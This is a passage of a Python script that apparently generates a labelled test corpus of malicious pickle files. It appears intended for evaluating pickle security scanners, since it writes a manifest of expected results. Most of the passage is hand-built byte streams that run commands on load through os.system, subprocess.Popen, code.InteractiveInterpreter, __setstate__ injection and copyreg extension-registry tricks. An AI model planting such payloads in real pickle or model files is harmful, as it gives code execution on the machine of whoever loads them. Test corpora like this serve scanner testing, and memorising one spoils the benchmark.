    P("F/inst_in_proto2.pkl", b"\x80\x02(" + u(CMD) + b"isubprocess\ngetoutput\n.", "INST subprocess.getoutput inside a protocol-2 stream")
    P("F/obj_os_system.pkl", b"\x80\x02(" + g2("os", "system") + u(CMD) + b"o.", "OBJ with os.system as the class")
    P("F/obj_stack_global.pkl", b"\x80\x04(" + u("subprocess") + u("check_output") + b"\x93" + u("echo") + u("mlsec-blind7") + b"\x86o.", "OBJ of STACK_GLOBAL subprocess.check_output")
    P("F/newobj_popen.pkl", b"\x80\x02" + g2("subprocess", "Popen") + b"]" + u("echo") + b"a\x85\x81.", "NEWOBJ subprocess.Popen")
    P("F/newobj_ex_popen.pkl", b"\x80\x04" + u("subprocess") + u("Popen") + b"\x93" + b"]" + u("echo") + b"a\x85}" + u("shell") + b"\x88s\x92.", "NEWOBJ_EX subprocess.Popen(args, shell=True)")
    P("F/newobj_ex_then_build.pkl", b"\x80\x04" + u("code") + u("InteractiveInterpreter") + b"\x93)}\x92" + b"\x94" + b"0" + b"h\x00" + u("runsource") + b"\x86" + b"0" + b"\x8c\x08builtins\x8c\x07getattr\x93h\x00" + u("runsource") + b"\x86R" + u("import os") + b"\x85R.",
      "NEWOBJ_EX code.InteractiveInterpreter then getattr(runsource)(...)")
    # BUILD with __setstate__
    P("F/build_setstate_namespace.pkl", b"\x80\x04" + u("argparse") + u("Namespace") + b"\x93)\x81" + b"}" + u("__setstate__") + u("os") + u("system") + b"\x93sb" + u(CMD) + b"b.",
      "BUILD sets an instance __setstate__ = os.system, a second BUILD calls it")
    P("F/build_setstate_simplens.pkl", b"\x80\x02" + g2("types", "SimpleNamespace") + b")\x81}" + u("__setstate__") + g2("subprocess", "getoutput") + b"sb" + u(CMD) + b"b.",
      "same with types.SimpleNamespace and subprocess.getoutput")
    P("F/build_popen_state.pkl", b"\x80\x02" + g2("subprocess", "Popen") + b")\x81}" + u("args") + u(CMD) + b"sb.", "BUILD state on a bare subprocess.Popen instance")
    P("F/build_setstate_memo.pkl", b"\x80\x04" + u("os") + u("system") + b"\x93\x94" + b"0" + u("argparse") + u("Namespace") + b"\x93)\x81}" + u("__setstate__") + b"h\x00sb" + u(CMD) + b"b.",
      "__setstate__ injection with the callable fetched from memo")
    # EXT1/2/4
    for op, code, fmt in ((b"\x82", 200, "<B"), (b"\x83", 40000, "<H"), (b"\x84", 0x7FFFFFF0, "<i")):
        P(f"F/ext_{op.hex()}_add_extension.pkl", b"\x80\x02" + g2("copyreg", "add_extension") + u("os") + u("system") + b"J" + struct.pack("<i", code) + b"\x87R0" + op + struct.pack(fmt, code) + u(CMD) + b"\x85R.",
          f"copyreg.add_extension('os','system',{code}) then EXT {op.hex()} + REDUCE")
    P("F/ext_inverted_registry_setitem.pkl", b"\x80\x02" + g2("copyreg", "_inverted_registry") + b"K\xf0" + u("os") + u("system") + b"\x86s0" + b"\x82\xf0" + u(CMD) + b"\x85R.",
      "call-free: SETITEM copyreg._inverted_registry[240] = ('os','system'), EXT1 240, REDUCE")
    P("F/ext_cache_setitem.pkl", b"\x80\x02" + g2("copyreg", "_extension_cache") + b"K\xf1" + g2("posix", "system") + b"s0\x82\xf1" + u(CMD) + b"\x85R.",
      "SETITEM copyreg._extension_cache[241] = posix.system, EXT1 241, REDUCE")
    P("F/ext_unregistered.pkl", b"\x80\x02\x82\x07" + u(CMD) + b"\x85R.", "EXT1 7 (unregistered code) + REDUCE")
    P("F/dup_global.pkl", b"\x80\x02" + g2("os", "system") + b"2" + u(CMD) + b"\x85R0" + u("x") + b"\x85R.", "DUP of os.system, two calls")
    P("F/persid_text.pkl", b"\x80\x02P" + b"os.system\n" + u(CMD) + b"\x85R.", "PERSID id 'os.system' (a persistent_load resolving names) then REDUCE")


def main():
    if os.path.isdir(OUT):
        shutil.rmtree(OUT)
    os.makedirs(OUT)
    for fn in (A, B, C, D, E, F):
        fn()
    with open(os.path.join(OUT, "MANIFEST.tsv"), "w") as f:
        f.write("file\tclass\twhat\texpected\n")
        for r in sorted(ROWS):
            f.write("\t".join(r) + "\n")
    print(len(ROWS), "files")
    if "--check" in sys.argv:
        for rel in PICKLES:
            try:
                pickletools.dis(open(os.path.join(OUT, rel), "rb").read(), out=io.StringIO())
            except Exception as e:
                print("dis", rel, repr(e)[:100])


if __name__ == "__main__":
    main()
